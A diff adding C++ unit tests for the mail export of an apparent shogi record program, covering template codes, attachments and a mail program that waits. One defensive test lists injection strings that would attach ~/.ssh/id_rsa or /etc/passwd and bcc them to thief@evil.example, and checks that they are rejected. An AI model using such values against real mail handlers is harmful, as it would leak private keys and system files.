@@ -4,6 +4,9 @@
 
 #include <gtest/gtest.h>
 
+#include <QElapsedTimer>
+#include <QTimer>
+
 #include <QTemporaryDir>
 #include <QUrl>
 #include <QUrlQuery>
@@ -275,6 +278,41 @@ TEST_F(MailFileTest, SaveModesWriteCp932WithCrLfUnderTheRightName) {
   EXPECT_TRUE(ui.boxes.empty());
 }
 
+// The files hold the mail template of the position file's codes: the start
+// and end dates and the comment are codes of it, %d is the position file's
+// diagram (no player lines), and nothing is added at the end.
+TEST_F(MailFileTest, TheFilesHoldTheMailTemplateOfThePositionFile) {
+  g_Record.header.startTime = u"2024/01/06";
+  g_Record.header.endTime = u"2024/01/07";
+  g_Record.header.firstPlayer = u"山田";
+  ASSERT_EQ(AppendComment(g_Record, 0, u"開始の注"), 0);
+  g_nMailSaveMode = 0;
+  g_szMailFormat1 = u"[%g][%*][%e]%c";
+  WriteMailFile(nullptr);
+  EXPECT_EQ(Bytes(folder + u"変化.mal"), Utf16ToAnsi(u"[2024/01/06][*初手から\r\n*開始の注\r\n][2024/01/07]\r\n"));
+  g_szBoardTextFormat = u"%d";
+  g_szMailFormat1 = u"%d";
+  WriteMailFile(nullptr);
+  const std::string diagram = Bytes(folder + u"変化.mal");
+  EXPECT_EQ(diagram.find(Utf16ToAnsi(u"先手：")), std::string::npos) << diagram;
+  EXPECT_EQ(diagram.rfind(Utf16ToAnsi(u"先手の持駒：なし\r\n")), diagram.size() - Utf16ToAnsi(u"先手の持駒：なし\r\n").size());
+  EXPECT_TRUE(ui.boxes.empty());
+  // Collected one after the other, with no empty line between them.
+  g_nMailSaveMode = 2;
+  g_szMailFormat1 = u"一%n%c";
+  g_szMailFormat2 = u"二%n%c";
+  WriteMailFile(nullptr);
+  WriteMail2File(nullptr);
+  EXPECT_EQ(Bytes(folder + u"PAD"), Utf16ToAnsi(u"一0\r\n二0\r\n"));
+  // A code the template does not have is told, then the save as failed.
+  g_nMailSaveMode = 0;
+  g_szMailFormat1 = u"%0i";
+  WriteMailFile(nullptr);
+  ASSERT_EQ(ui.boxes.size(), 2u);
+  EXPECT_EQ(ui.boxes[0].text, u"メール書式エラー(%0)");
+  EXPECT_EQ(ui.boxes[1].text, u"メール保存エラー(" + folder + u"変化.mal)");
+}
+
 TEST_F(MailFileTest, AFailedWriteIsReportedAndLeavesNoFile) {
   g_szCommFolder = folder + u"missing/";
   WriteMailFile(nullptr);
@@ -367,11 +405,78 @@ protected:
 
 TEST_F(AttachmentMailTest, SendsTheFileWithTheTemplatesAsOneArgumentEach) {
   SendRecordByMapiMail(nullptr);
-  EXPECT_EQ(Args(), "--subject\n--\n第0手 \n--\n--body\n--\nさん\r\n0\n--\n--attach\n--\n" +
+  EXPECT_EQ(Args(), "--subject\n--\n第0手 \n--\n--body\n--\nさん\n0\n--\n--attach\n--\n" +
                         U8(g_szRecordFilePath) + "\n--\nhana@example.jp\n--\n");
   EXPECT_TRUE(ui.boxes.empty());
 
   setenv("XDG_STUB_EXIT", "3", 1);
+  SendRecordByMapiMail(nullptr);
+  ASSERT_EQ(ui.boxes.size(), 1u);
+  EXPECT_EQ(ui.boxes[0].text, u"メールの作成に失敗しました。");
+}
+
+// The default templates with a record that names no recipient: the mail
+// program opens with the file attached and the empty fields left out.
+TEST_F(AttachmentMailTest, EmptyFieldsAreLeftOutForTheUserToFillIn) {
+  ResetEnvDefaults();
+  g_Record.header.userItems[4].clear();
+  g_szNetMailSubject.clear();
+  g_szNetMailBody.clear();
+  SendRecordByMapiMail(nullptr);
+  EXPECT_EQ(Args(), "--attach\n--\n" + U8(g_szRecordFilePath) + "\n--\n");
+  EXPECT_TRUE(ui.boxes.empty());
+  g_Record.header.userItems[4] = u"a@example.jp,b.c+d@mail.example.jp";
+  SendRecordByMapiMail(nullptr);
+  EXPECT_EQ(Args(), "--attach\n--\n" + U8(g_szRecordFilePath) + "\n--\na@example.jp\n--\nb.c+d@mail.example.jp\n--\n");
+}
+
+TEST_F(AttachmentMailTest, ARecipientThatIsNoPlainAddressStartsNothing) {
+  const char16_t* hostile[] = {
+      u"mailto:friend@example.org?attach=/home/u/.ssh/id_rsa&bcc=thief@evil.example",
+      u"friend@example.org?bcc=thief@evil.example",
+      u"friend@example.org&attach=/etc/passwd",
+      u"Friend <friend@example.org>",
+      u"friend@example.org --attach /etc/passwd",
+      u"friend@example.org\nBcc: thief@evil.example",
+      u"a@b@example.org",
+      u"--utf8",
+      u"friend%40example.org",
+      u"\x01friend@example.org",
+  };
+  for (const char16_t* to : hostile) {
+    SCOPED_TRACE(U8(to));
+    ui.boxes.clear();
+    std::remove(argsFile.c_str());
+    g_Record.header.userItems[4] = to;
+    SendRecordByMapiMail(nullptr);
+    EXPECT_EQ(Args(), "");
+    ASSERT_EQ(ui.boxes.size(), 1u);
+    EXPECT_EQ(ui.boxes[0].text.rfind(u"宛先(", 0), 0u);
+    EXPECT_NE(ui.boxes[0].text.find(u")はメールアドレスではありません。"), std::u16string::npos);
+  }
+}
+
+// A mail program that keeps xdg-email waiting does not stop the window: the
+// command comes back after a few seconds, with the program still running.
+TEST_F(AttachmentMailTest, AMailProgramThatWaitsDoesNotFreezeTheWindow) {
+  const std::string script = tmp.path().toStdString() + "/xdg-email";
+  FILE* f = fopen(script.c_str(), "w");
+  fprintf(f, "#!/bin/sh\nsleep 10\n");
+  fclose(f);
+  int ticks = 0;
+  QTimer timer;
+  QObject::connect(&timer, &QTimer::timeout, [&] { ++ticks; });
+  timer.start(100);
+  QElapsedTimer took;
+  took.start();
+  SendRecordByMapiMail(nullptr);
+  EXPECT_LT(took.elapsed(), 6000);
+  EXPECT_GT(ticks, 10);
+  EXPECT_TRUE(ui.boxes.empty());
+  // One that fails at once is still told.
+  f = fopen(script.c_str(), "w");
+  fprintf(f, "#!/bin/sh\nexit 1\n");
+  fclose(f);
   SendRecordByMapiMail(nullptr);
   ASSERT_EQ(ui.boxes.size(), 1u);
   EXPECT_EQ(ui.boxes[0].text, u"メールの作成に失敗しました。");
